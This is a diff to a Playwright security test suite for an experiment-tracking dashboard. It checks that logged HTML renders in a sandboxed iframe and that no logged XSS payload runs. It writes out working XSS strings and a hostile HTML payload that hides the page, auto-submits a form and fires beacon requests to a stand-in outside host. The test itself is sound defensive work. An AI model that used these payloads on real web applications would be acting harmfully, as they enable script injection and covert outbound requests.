@@ -1,6 +1,7 @@
 """Logged text never becomes markup. XSS payloads are logged as every field a user controls, then
 every page is opened and every chart hovered: no payload may run, no dialog may open, and the
-payloads show as plain text.
+payloads show as plain text. Logged HTML is shown in a sandboxed iframe: it can neither restyle the
+dashboard, run script, submit a form nor fetch from another host.
 
 The SDK refuses some payloads before they reach the store: artifact names, types and aliases (1-128
 of ``A-Za-z0-9_.-``), run ids, and reference URIs other than file/s3/http(s)."""
@@ -32,6 +33,26 @@ SCRIPT = "</script><script>window.__xss=1</script>"
 ALERT = "<img src=x onerror=alert(1)>"
 URL = "javascript:window.__xss=1"
 PROJECT = "xss"
+# Logged HTML that tries to hide the dashboard, send a form, fetch a beacon and run script.
+OUTSIDE = "127.0.0.1:9"
+HOSTILE = "<p>hostile</p><style>body{display:none}</style>"
+BEACON = (
+    "<style>header,main,nav{display:none!important}</style>"
+    "<p>Logged text stays readable</p>"
+    f'<form action="http://{OUTSIDE}/form" method="post"><input name="a" value="b">'
+    '<button type="submit">Send</button></form>'
+    f'<img src="http://{OUTSIDE}/beacon" alt="">'
+    f'<div style="background:url(http://{OUTSIDE}/background)">styled</div>'
+    f'<meta http-equiv="refresh" content="0;url=http://{OUTSIDE}/refresh">'
+    "<script>document.forms[0].submit();document.body.append('script ran');"
+    "parent.__xss=1</script>"
+)
+# A page policy like the server's own (frame-src 'self', img-src 'self' data: blob:): the frame
+# must work under it and without it.
+PAGE_POLICY = (
+    "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; "
+    "frame-src 'self'; object-src 'none'"
+)
 
 
 @dataclass(frozen=True)
@@ -39,6 +60,7 @@ class Payloads:
     store_dir: Path
     runs: list[str]
     sweep: str
+    html_run: str
 
 
 def _log_payloads(store_dir: Path) -> Payloads:
@@ -120,7 +142,9 @@ def _log_payloads(store_dir: Path) -> Payloads:
 
     cairn.agent(sweep, function=train, count=4, dir=store_dir)
     cairn.init(project=IMG, dir=store_dir, name=SCRIPT).finish(quiet=True)
-    return Payloads(store_dir, runs, sweep)
+    with cairn.init(project="html", dir=store_dir, name="hostile-html") as run:
+        run.log({"hostile": cairn.Html(HOSTILE), "beacon": cairn.Html(BEACON)})
+    return Payloads(store_dir, runs, sweep, run.id)
 
 
 @pytest.fixture(scope="module")
@@ -348,3 +372,58 @@ def test_sweep_tooltip_shows_the_metric_name_as_text(
     SCREENSHOTS.mkdir(parents=True, exist_ok=True)
     page.screenshot(path=str(SCREENSHOTS / "xss-sweep-tooltip.png"))
     guard.check("the sweep tooltip")
+
+
+def _sent(requests: list[Any]) -> list[str]:
+    """The requests that left the browser: Chromium announces some fetches that the frame's
+    policy then blocks ("csp"); those never leave."""
+    for request in requests:
+        request.response()  # waits until it finished or failed
+    return [f"{r.url} ({r.failure})" for r in requests if r.failure != "csp"]
+
+
+@pytest.mark.parametrize("page_policy", [None, PAGE_POLICY], ids=["no-page-policy", "page-policy"])
+def test_logged_html_is_shown_sandboxed(
+    page: Any, payloads: tuple[str, Payloads], page_policy: str | None
+) -> None:
+    url, logged = payloads
+    guard = Guard(page)
+    outbound: list[Any] = []
+    page.on("request", lambda r: outbound.append(r) if OUTSIDE in r.url else None)
+    if page_policy:
+
+        def with_policy(route: Any) -> None:
+            if route.request.resource_type != "document":
+                route.continue_()
+                return
+            response = route.fetch()
+            headers = {**response.headers, "content-security-policy": page_policy}
+            route.fulfill(response=response, headers=headers)
+
+        page.route(re.compile(r"/p/html/"), with_policy)
+    page.goto(f"{url}/p/html/r/{logged.html_run}")
+    page.get_by_test_id("tab-media").click()
+    tab = page.get_by_test_id("media-tab")
+    panel = tab.locator('[data-testid="other-panel"][data-key="beacon"]')
+    expect(panel.get_by_test_id("media-html")).to_have_count(1)
+    expect(tab.locator('[data-testid="other-panel"][data-key="hostile"]')).to_have_count(1)
+
+    # The dashboard keeps its own styles: its header, tabs and panels stay visible.
+    expect(page.get_by_test_id("topbar")).to_be_visible()
+    expect(page.get_by_test_id("tab-media")).to_be_visible()
+    expect(tab.locator('[data-testid="other-panel"][data-key="hostile"]')).to_be_visible()
+    guard.check("the media tab with logged HTML")
+    assert _sent(outbound) == [], "logged HTML sent requests out"
+
+    # The logged text shows inside a frame with every sandbox restriction; no script ran there,
+    # and a user sending the form sends nothing.
+    frame = panel.frame_locator('[data-testid="media-html"]')
+    expect(frame.get_by_text("Logged text stays readable")).to_be_visible()
+    expect(frame.get_by_text("styled")).to_be_visible()
+    expect(panel.get_by_test_id("media-html")).to_have_attribute("sandbox", "")
+    expect(frame.locator("body")).not_to_contain_text("script ran")
+    frame.get_by_role("button", name="Send").click()
+    guard.check("the media tab after sending the logged form")
+    assert _sent(outbound) == [], "logged HTML sent requests out"
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    panel.screenshot(path=str(SCREENSHOTS / "xss-html-iframe.png"))
